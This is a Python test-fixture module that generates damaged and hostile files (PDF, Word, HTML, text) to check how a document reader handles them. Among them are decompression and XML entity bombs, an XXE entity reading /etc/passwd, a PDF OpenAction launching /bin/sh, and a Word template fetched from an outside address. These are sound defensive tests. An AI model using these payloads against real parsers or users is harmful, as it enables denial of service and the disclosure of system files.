"""Damaged and hostile files, made on the spot: what a folder from anywhere may contain.

Each is made by a function, so that nothing of the kind lies in the repository.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
from pdf_files import pdf, shown
from pypdf import PdfWriter

__all__ = ["FILES", "pdf", "shown", "word"]

MEBIBYTE = 1 << 20


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


TEXT = ("示例条例", "第一条　为了示例，制定本条例。", "第二条　本条例自公布之日起施行。")
GOOD_PDF = pdf(shown(*TEXT))


def replaced(name: str, content: bytes, *, base: bytes | None = None) -> bytes:
    """A Word document with one of its parts replaced or added."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base or word(*TEXT))) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return stream.getvalue()


def document_xml(body: bytes, prologue: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + prologue + b"<w:document "
        b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        + body
        + b"</w:body></w:document>"
    )


def word_bomb() -> bytes:
    """20 GB of blanks would take minutes to make; 400 MB say the same."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(400):
                part.write(b" " * MEBIBYTE)
    return stream.getvalue()


def lying_word() -> bytes:
    """A document that says its text is 1,000 bytes long while it is 64 MB."""
    content = bytearray(replaced("word/document.xml", document_xml(b"<w:p/>" + b" " * (64 * MEBIBYTE))))
    at = content.rfind(b"word/document.xml") - 46
    assert content[at : at + 4] == b"PK\x01\x02"
    content[at + 24 : at + 28] = struct.pack("<I", 1000)
    return bytes(content)


def many_files() -> bytes:
    stream = io.BytesIO(word(*TEXT))
    with zipfile.ZipFile(stream, "a") as archive:
        for number in range(5000):
            archive.writestr(f"word/media/{number}.bin", b"")
    return stream.getvalue()


def archive(**names: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in names.items():
            made.writestr(name.replace("__", "/"), content)
    return stream.getvalue()


def locked_zip() -> bytes:
    content = bytearray(word(*TEXT))
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def encrypted(user: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(GOOD_PDF))
    writer.encrypt(user_password=user, owner_password="other", algorithm="RC4-128")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def flate_bomb() -> bytes:
    """A page of 1 GB of blanks, packed twice into some kilobytes."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * MEBIBYTE) for _ in range(1024)) + packer.flush()
    return pdf(zlib.compress(once, 9), filters=b"/Filter [/FlateDecode /FlateDecode]")


def text_bomb() -> bytes:
    """A page that shows sixty million characters."""
    row = f"<{('工' * 1000).encode('utf-16-be').hex()}> Tj ".encode()
    return pdf(zlib.compress(b"BT /F1 1 Tf " + row * 60_000 + b"ET", 9), filters=b"/Filter /FlateDecode")


def noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def ole(extra: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + extra + b"\x00" * 2048


PICTURE = b"/XObject << /I 10 0 R >>"
IMAGE = (
    b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 64 >>"
    b"\nstream\n" + b"\x80" * 64 + b"\nendstream"
)


def picture_page() -> bytes:
    return pdf(b"q 500 0 0 700 40 60 cm /I Do Q", resources=PICTURE, extra=(IMAGE,))


def form_loop() -> bytes:
    form = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 10 0 R >> >> /Length 12 >>"
        b"\nstream\n/X Do /X Do \nendstream"
    )
    return pdf(shown(*TEXT) + b" /X Do", resources=b"/XObject << /X 10 0 R >>", extra=(form,))


def without_codes() -> bytes:
    """A font that says what its characters look like but not which they are."""
    content = pdf(shown(*("".join(chr(1 + (7 * row + at) % 25) for at in range(30)) for row in range(6))))
    return (
        content.replace(b"/UniGB-UCS2-H", b"/Identity-H  ").replace(b"(GB1)", b"(Xx1)").replace(b"(Adobe)", b"(Adxxx)")
    )


BILLION = (
    b'<!DOCTYPE x [<!ENTITY a "'
    + b"ha" * 100
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k")))
    + b"]>"
)
XXE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAGRAPH = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>"
READ = ""

# Name of the file, how it is made, and what the one line about it says; READ for one that is read all the same.
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "空.pdf": (lambda: b"", "空的"),
    "空白.txt": (lambda: b" \r\n\t\n" * 100, "空的"),
    "半截.pdf": (lambda: GOOD_PDF[: len(GOOD_PDF) * 2 // 3], "损坏|没有文字|PDF"),
    "乱码.pdf": (lambda: b"%PDF-1.7\n" + noise(200_000), "损坏"),
    "无页.pdf": (lambda: GOOD_PDF.replace(b"/Count 1 /Kids [100 0 R]", b"/Count 0 /Kids []"), "损坏|没有文字"),
    "页树成环.pdf": (lambda: GOOD_PDF.replace(b"/Kids [100 0 R]", b"/Kids [2 0 R]"), "损坏|没有文字"),
    "密码.pdf": (lambda: encrypted("secret"), "密码"),
    "只限编辑.pdf": (lambda: encrypted(""), READ),
    "两千页.pdf": (lambda: pdf(*[shown("第一条　示例。")] * 2000), "2000 页"),
    "压缩炸弹.pdf": (flate_bomb, "内存|秒"),
    "文字炸弹.pdf": (text_bomb, "万字|内存|秒"),
    "套娃.pdf": (form_loop, "内存|秒|中止"),
    "深层数组.pdf": (lambda: pdf(b"[" * 500_000 + b"]" * 500_000), "没有文字|损坏|中止"),
    "扫描.pdf": (picture_page, "扫描件"),
    "没有编码.pdf": (without_codes, "乱码|没有文字|损坏"),
    "脚本.pdf": (lambda: pdf(shown(*TEXT), catalog=b"/OpenAction << /S /Launch /F (/bin/sh) >>"), READ),
    "天大的页.pdf": (lambda: GOOD_PDF.replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"), READ),
    "其实是Word.pdf": (lambda: word(*TEXT), READ),
    "其实是文本.pdf": (lambda: "只是文字，不是 PDF。".encode(), "不是 PDF"),
    "其实是PDF.docx": (lambda: GOOD_PDF, READ),
    "其实是PDF.txt": (lambda: GOOD_PDF, READ),
    "其实是程序.docx": (lambda: b"MZ" + noise(5000), "程序"),
    "其实是图片.pdf": (lambda: b"\x89PNG\r\n\x1a\n" + noise(500), "图片"),
    "其实是表格.docx": (lambda: archive(xl__workbook=b"x"), "Excel"),
    "其实是压缩包.docx": (lambda: archive(readme=b"x"), "压缩包"),
    "其实是RTF.docx": (lambda: b"{\\rtf1 x}", "RTF"),
    "半截.docx": (lambda: word(*TEXT)[:9000], "损坏"),
    "解压炸弹.docx": (word_bomb, "异常大"),
    "谎报大小.docx": (lying_word, "损坏|完整|异常大"),
    "文件太多.docx": (many_files, "上限"),
    "包中包.docx": (lambda: archive(a=archive(b=archive(c=b"0" * MEBIBYTE))), "压缩包"),
    "上锁.docx": (locked_zip, "密码"),
    "实体炸弹.docx": (
        lambda: replaced("word/document.xml", document_xml(PARAGRAPH % b"&j;", BILLION)),
        "损坏|没有文字|内存",
    ),
    "外部实体.docx": (lambda: replaced("word/document.xml", document_xml(PARAGRAPH % b"&a;", XXE)), "损坏|没有文字"),
    "套得很深.docx": (
        lambda: replaced("word/document.xml", document_xml(b"<w:p>" * 50_000 + b"</w:p>" * 50_000)),
        "损坏|没有文字",
    ),
    "没有正文.docx": (lambda: replaced("word/document.xml", b"<w:document/>"), "损坏|完整"),
    "带宏.docx": (
        lambda: replaced(
            "[Content_Types].xml",
            zipfile.ZipFile(io.BytesIO(word(*TEXT)))
            .read("[Content_Types].xml")
            .replace(
                b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
            ),
        ),
        "宏",
    ),
    "外部模板.docx": (
        lambda: replaced(
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://203.0.113.1/t.dotm" TargetMode="External"/></Relationships>',
        ),
        READ,
    ),
    "旧版.doc.docx": (ole, "旧版 Word"),
    "加密.docx": (lambda: ole("EncryptedPackage".encode("utf-16-le")), "密码"),
    "套得很深.html": (
        lambda: b"<html><body>" + b"<div>" * 400_000 + "第一条　示例。".encode() + b"</html>",
        "没有文字|损坏|中止|秒",
    ),
    "只有脚本.html": (lambda: b"<html><body><script>alert(1)</script></body></html>", "没有文字"),
    "噪声.txt": (lambda: noise(100_000), "编码"),
    "全是零.txt": (lambda: b"\x00" * 100_000, "编码|没有文字|空的"),
    "太长.txt": (lambda: "工".encode() * 6_000_000, "万字"),
    "半个字.txt": (lambda: "第一条　示例。".encode()[:-1], READ),
}


def special(folder: Path) -> dict[Path, str]:
    """What lies in a folder but is no file: a pipe, a folder, a link to nowhere, an endless device."""
    pipe, directory, nowhere, endless = (folder / name for name in ("管道.pdf", "文件夹.pdf", "断链.pdf", "无穷.txt"))
    os.mkfifo(pipe)
    directory.mkdir()
    nowhere.symlink_to(folder / "none")
    endless.symlink_to("/dev/zero")
    return {pipe: "不是普通文件", directory: "不是普通文件", nowhere: "无法读取", endless: "不是普通文件"}
